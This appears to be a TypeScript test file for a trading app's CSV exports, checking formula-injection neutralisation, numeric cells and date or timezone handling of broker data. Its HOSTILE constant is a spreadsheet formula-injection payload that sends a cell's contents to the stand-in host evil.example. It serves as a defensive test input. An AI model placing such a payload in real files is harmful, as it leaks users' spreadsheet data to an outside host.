// The trade exports (closed trades, executions) carry what broker files and members wrote: a hostile
// cell comes out as text a spreadsheet shows, never a formula; amounts stay numbers.
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Trade } from '../../functions/_lib/contract/index.ts';
import { analyzeFile } from '../../functions/_lib/trades/import-file.ts';
import { zonedTimeToEpoch } from '../../functions/_lib/trades/zoned-time.ts';
import { marketWallTime } from '../../member-app/trades/time-zone.ts';
import { executionsCsv, tripsCsv } from '../../member-app/trades/trips-csv.ts';
import { tradeRecord } from '../support/trade-record.ts';
import { closedTrade } from '../support/trades.ts';

const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
/** What a spreadsheet reads back from the neutralised cell: the same characters after a `'`. */
const NEUTRALISED = `'${HOSTILE}`;

/** The cells of a one-row export by header, read back as a spreadsheet would (RFC 4180 quoting). */
function cells(text: string): Record<string, string> {
  const [header = [], row = []] = Papa.parse<string[]>(text.trimEnd()).data;
  return Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
}

describe('closed trades CSV', () => {
  const trip = closedTrade({ id: 'trade_A', symbol: '-ABC', net: '-750.3600', gross: '-749.3600' });
  const tags = [
    { id: 'setup:ev', name: '+EV', kind: 'setup' as const },
    { id: 'mistake:1r', name: '-1R', kind: 'mistake' as const },
  ];
  const text = tripsCsv([trip], { tagsOf: () => ['setup:ev', 'mistake:1r'], riskOf: () => '50' }, tags);

  it.each([
    ['symbol', "'-ABC"],
    ['setup_tags', "'+EV"],
    ['mistake_tags', "'-1R"],
  ])('neutralises the %s text cell', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });

  it.each([
    ['net', '-750.3600'],
    ['gross', '-749.3600'],
    ['return_pct', '-150.07'],
    ['risk', '50'],
    ['held_seconds', '900'],
  ])('keeps the %s number a number', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });

  it('neutralises a tag name the store hands back whatever it holds', () => {
    const hostile = tripsCsv([trip], { tagsOf: () => ['setup:x'], riskOf: () => null }, [
      { id: 'setup:x', name: HOSTILE, kind: 'setup' },
    ]);
    expect(cells(hostile).setup_tags).toBe(NEUTRALISED);
  });
});

describe('executions CSV', () => {
  const trade: Trade = {
    trade_id: 'trade_A',
    symbol: '@SUM',
    tradeType: 'sell',
    shares: '1000',
    buyPrice: null,
    sellPrice: '0.6',
    sellProfit: null,
    fees: '-0.35',
    note: '',
    time: 1000,
    updated: 0,
    source: '+cmd',
    account: HOSTILE,
    intent: null,
    fingerprint: null,
  };
  const text = executionsCsv([closedTrade({ fills: ['trade_A'] })], new Map([['trade_A', trade]]), () => 't');

  it.each([
    ['account', NEUTRALISED],
    ['symbol', "'@SUM"],
    ['source', "'+cmd"],
    ['fees', '-0.35'],
    ['price', '0.6'],
    ['shares', '1000'],
  ])('writes the %s cell as %s', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });
});

describe('exports of a file with dates only (Schwab)', () => {
  // schwab.csv read by the real reader: HMBL bought and sold 03/24 (1,000,000 × (0.0044 − 0.0041) = 300,
  // fees 8.43), ENZC bought 03/24 and sold 03/25 (2,500,000 × (0.001 − 0.0012) = −500, fees 8.37),
  // ALPP sold short and covered 03/25 (3,000 × (0.335 − 0.32) = 45, fees 0.53).
  const { closed_trades } = analyzeFile(
    readFileSync(new URL('../fixtures/brokers/schwab.csv', import.meta.url), 'utf8'),
  );
  const text = tripsCsv(closed_trades, { tagsOf: () => [], riskOf: () => null }, []);
  const [header = [], ...rows] = Papa.parse<string[]>(text.trimEnd()).data;
  const bySymbol = Object.fromEntries(
    rows.map((row) => [row[header.indexOf('symbol')], Object.fromEntries(header.map((h, i) => [h, row[i]]))]),
  );

  it.each([
    ['HMBL', '2026-03-24', '2026-03-24', '0', '291.5700'],
    ['ENZC', '2026-03-24', '2026-03-25', '1', '-508.3700'],
    ['ALPP', '2026-03-25', '2026-03-25', '0', '44.4700'],
  ])(
    '%s: entry and exit as dates alone, held in days (%s → %s: %s), no made-up seconds',
    (symbol, entry, exit, days, net) => {
      expect(bySymbol[symbol]).toMatchObject({ entry, exit, held_seconds: '', held_days: days, net });
    },
  );

  it('writes a timed trip’s held seconds and its days beside them', () => {
    const timed = tripsCsv(
      [closedTrade({ entry: '2026-03-16T15:50:00', exit: '2026-03-17T09:35:00' })],
      { tagsOf: () => [], riskOf: () => null },
      [],
    );
    // 15:50 to 09:35 the next day is 8 h 10 min + 9 h 35 min = 17 h 45 min = 63,900 s, one calendar day.
    expect(cells(timed)).toMatchObject({ held_seconds: '63900', held_days: '1' });
  });

  it('writes a date-only execution’s date alone, the same in every zone; a timed one in the zone given', () => {
    const schwabDay = zonedTimeToEpoch('2026-03-24', 'America/New_York') ?? 0;
    const typed = Date.UTC(2026, 2, 24, 14, 30); // 10:30 in New York, 07:30 in Los Angeles
    const trades = new Map<string, Trade>([
      ['trade_A', tradeRecord({ trade_id: 'trade_A', time: schwabDay, dateOnly: true, source: 'schwab' })],
      ['trade_B', tradeRecord({ trade_id: 'trade_B', time: typed, tradeType: 'sell', sellPrice: '1.1' })],
    ]);
    const trips = [closedTrade({ fills: ['trade_A', 'trade_B'] })];
    const times = (zone: string) =>
      Papa.parse<string[]>(executionsCsv(trips, trades, (ms) => marketWallTime(ms, zone)).trimEnd())
        .data.slice(1)
        .map((row) => row[1]);
    // New York's midnight is 21:00 the day before in Los Angeles: the date stays the file's.
    expect(times('America/Los_Angeles')).toEqual(['2026-03-24', '2026-03-24T07:30:00']);
    expect(times('America/New_York')).toEqual(['2026-03-24', '2026-03-24T10:30:00']);
    expect(times('Asia/Tokyo')).toEqual(['2026-03-24', '2026-03-24T23:30:00']);
  });
});
